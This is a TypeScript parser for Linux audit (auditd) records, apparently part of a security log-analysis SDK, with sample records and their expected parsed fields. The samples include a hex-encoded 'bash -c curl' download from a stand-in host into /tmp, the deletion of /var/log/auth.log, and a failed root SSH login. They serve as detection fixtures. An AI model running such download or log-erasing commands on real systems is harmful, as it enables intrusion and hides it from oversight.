/** auditd: records of the Linux audit system, from audit.log, audisp over syslog, or the kernel. One line is one event;
 *  records of one system call keep their common serial in the field `serial`. */
import { type DecodedRecord, defineParser, EVENT_DEFAULTS, type EventColumns, parseEpoch } from "@holdfast/sdk";
import { fillAudit } from "./linux/audit-event.ts";
import { readAudit } from "./linux/audit-record.ts";

export default defineParser({
  id: "auditd",
  title: "Linux audit",
  docs: "https://github.com/linux-audit/audit-documentation/wiki",
  order: 105,
  form: "text",
  accepts: (record: DecodedRecord) => {
    if (record.json !== undefined) return false;
    const at = record.text.indexOf("audit(");
    return at >= 0 && at < 300 && record.text.lastIndexOf("type=", at) >= 0;
  },
  parse: (record: DecodedRecord) => {
    const { text, syslog } = record;
    const audit = readAudit(text);
    if (audit === undefined) return { ok: false, reason: "not an audit record", at: 0 };
    const columns: EventColumns = { ...EVENT_DEFAULTS };
    const time = parseEpoch(audit.stamp);
    columns.time_ms = time?.time_ms ?? 0;
    columns.time_ns = time?.time_ns ?? 0;
    columns.product = "auditd";
    columns.channel = "audit";
    const { fields } = audit;
    columns.host = typeof fields["node"] === "string" ? fields["node"] : (syslog?.host ?? "");
    fillAudit(columns, audit);
    fields["serial"] = audit.serial;
    const isLaunch = audit.type === "EXECVE";
    return {
      ok: true,
      event: {
        columns,
        fields,
        logsource: { product: "linux", service: "auditd", category: isLaunch ? "process_creation" : undefined },
      },
    };
  },
  samples: [
    {
      name: "Arguments, one of them in hex because it holds blanks",
      in: 'type=EXECVE msg=audit(1777800000.123:4410): argc=3 a0="bash" a1="-c" a2=6375726C20687474703A2F2F782E6578616D706C65202D6F202F746D702F78',
      out: {
        time_ms: 1777800000123,
        class_uid: 1007,
        activity_id: 1,
        event_code: "EXECVE",
        product: "auditd",
        process_path: "bash",
        process_cmd: "bash -c curl http://x.example -o /tmp/x",
      },
      fields: {
        type: "EXECVE",
        a2: "curl http://x.example -o /tmp/x",
        CommandLine: "bash -c curl http://x.example -o /tmp/x",
      },
    },
    {
      name: "The rest of arguments that were too long for one record: not a second launch",
      in: 'type=EXECVE msg=audit(1777800000.123:4410):  a1[1]=6D2F706174683B a2="after"',
      out: {
        class_uid: 1007,
        activity_id: 99,
        event_code: "EXECVE",
        process_path: "",
        process_cmd: "m/path; after",
      },
      fields: { "a1[1]": "m/path;", a2: "after", CommandLine: "m/path; after" },
    },
    {
      name: "System call, numbers only",
      in: 'type=SYSCALL msg=audit(1777800000.123:4410): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55e0 a2=55f0 a3=8 items=2 ppid=900 pid=901 auid=1000 uid=1000 gid=1000 euid=0 tty=pts0 ses=3 comm="sudo" exe="/usr/bin/sudo" key="exec"',
      out: {
        class_uid: 1007,
        activity_id: 99,
        status_id: 1,
        user: "1000",
        target_user: "0",
        process_path: "/usr/bin/sudo",
        process_pid: 901,
        parent_pid: 900,
        session: "3",
        object: "execve",
      },
      fields: { SYSCALL: "execve", key: "exec", a0: "55d0", comm: "sudo" },
    },
    {
      name: "Login refused, over syslog, user record with nested message",
      in: '<86>1 2026-05-03T09:20:00.5+00:00 web1 audisp-syslog - - - node=web1 type=USER_LOGIN msg=audit(1777800000.500:99): pid=811 uid=0 auid=4294967295 ses=4294967295 msg=\'op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.8 terminal=ssh res=failed\'',
      out: {
        class_uid: 3002,
        activity_id: 1,
        status_id: 2,
        host: "web1",
        user: "root",
        src_ip: "203.0.113.8",
        process_path: "/usr/sbin/sshd",
        time_ms: 1777800000500,
      },
      fields: { type: "USER_LOGIN", acct: "root", res: "failed" },
    },
    {
      name: "File removed",
      in: 'type=PATH msg=audit(1777800001.000:4411): item=1 name="/var/log/auth.log" inode=77 dev=08:01 mode=0100640 ouid=0 ogid=4 rdev=00:00 nametype=DELETE cap_fp=0',
      out: { class_uid: 1001, activity_id: 4, file_path: "/var/log/auth.log" },
      fields: { name: "/var/log/auth.log", nametype: "DELETE" },
    },
    {
      name: "Connection",
      in: "type=SOCKADDR msg=audit(1777800002.000:4412): saddr=02000050C633640A0000000000000000",
      out: { class_uid: 4001, activity_id: 1, dst_ip: "198.51.100.10", dst_port: 80 },
    },
  ],
});
